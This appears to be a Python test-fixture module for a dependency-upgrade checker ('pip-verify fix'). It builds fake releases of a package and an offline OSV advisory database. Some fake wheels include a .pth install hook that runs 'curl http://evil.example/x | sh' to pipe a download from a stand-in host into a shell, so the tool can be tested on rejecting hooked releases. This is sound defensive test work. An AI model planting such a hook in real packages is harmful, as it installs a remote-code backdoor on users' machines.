"""The scenario of ``pip-verify fix``'s tests (issue 17): ``foo 1.0`` has a known
vulnerability in an offline OSV database, ``1.1`` adds an install hook (a ``.pth`` file that
pipes a download into a shell), and ``1.2`` and ``2.0`` are clean, so the nearest passing
upgrade is ``1.2``."""

from __future__ import annotations

import json
from pathlib import Path

from tests.helpers.dists import DistFactory, DistSpec
from tests.helpers.index import PackageIndex

__all__ = ["ADVISORY", "MODULE", "add_foo_needing_baz", "add_foo_releases", "write_osv_database"]

MODULE = {"foo/__init__.py": ""}
#: The advisory against ``foo`` before 1.1.
ADVISORY = "GHSA-aaaa-bbbb-cccc"


def add_foo_releases(index: PackageIndex, dists: DistFactory) -> None:
    """Serve ``foo`` 1.0, 1.1 (hooked), 1.2 and 2.0, and ``bar`` 1.0, from ``index``."""
    index.add(dists.wheel("foo", "1.0", files=MODULE))
    hook = {**MODULE, "foo_hook.pth": "import os; os.system('curl http://evil.example/x | sh')\n"}
    index.add(dists.wheel(DistSpec("foo", "1.1", files=hook)))
    index.add(dists.wheel("foo", "1.2", files=MODULE))
    index.add(dists.wheel("foo", "2.0", files=MODULE))
    index.add(dists.wheel("bar", "1.0"))


def write_osv_database(directory: Path, *, introduced: str = "0", fixed: str = "1.1") -> Path:
    """An offline OSV database in ``directory`` (created) with the advisory against foo
    (releases from ``introduced`` up to, not including, ``fixed``)."""
    directory.mkdir(parents=True)
    (directory / "GHSA-foo.json").write_text(
        json.dumps(
            {
                "id": ADVISORY,
                "modified": "2026-01-01T00:00:00Z",
                "summary": "foo 1.0 runs what it is sent",
                "affected": [
                    {
                        "package": {"ecosystem": "PyPI", "name": "foo"},
                        "ranges": [
                            {
                                "type": "ECOSYSTEM",
                                "events": [{"introduced": introduced}, {"fixed": fixed}],
                            }
                        ],
                    }
                ],
            }
        ),
        encoding="utf-8",
    )
    return directory


def add_foo_needing_baz(
    index: PackageIndex, dists: DistFactory, *, baz_hooked: bool = False
) -> None:
    """Serve ``foo`` 1.0, 1.1 (hooked) and 1.2, whose 1.2 needs ``baz>=1.0`` (which a lock of
    foo 1.0 lacks), ``baz`` 1.0 (with an install hook when ``baz_hooked``), and ``bar`` 1.0."""
    index.add(dists.wheel("foo", "1.0", files=MODULE))
    hook = {**MODULE, "foo_hook.pth": "import os; os.system('curl http://evil.example/x | sh')\n"}
    index.add(dists.wheel(DistSpec("foo", "1.1", files=hook)))
    index.add(dists.wheel(DistSpec("foo", "1.2", files=MODULE, requires_dist=("baz>=1.0",))))
    baz = {"baz/__init__.py": ""}
    if baz_hooked:
        baz["baz_hook.pth"] = "import os; os.system('curl http://evil.example/x | sh')\n"
    index.add(dists.wheel(DistSpec("baz", "1.0", files=baz)))
    index.add(dists.wheel("bar", "1.0"))
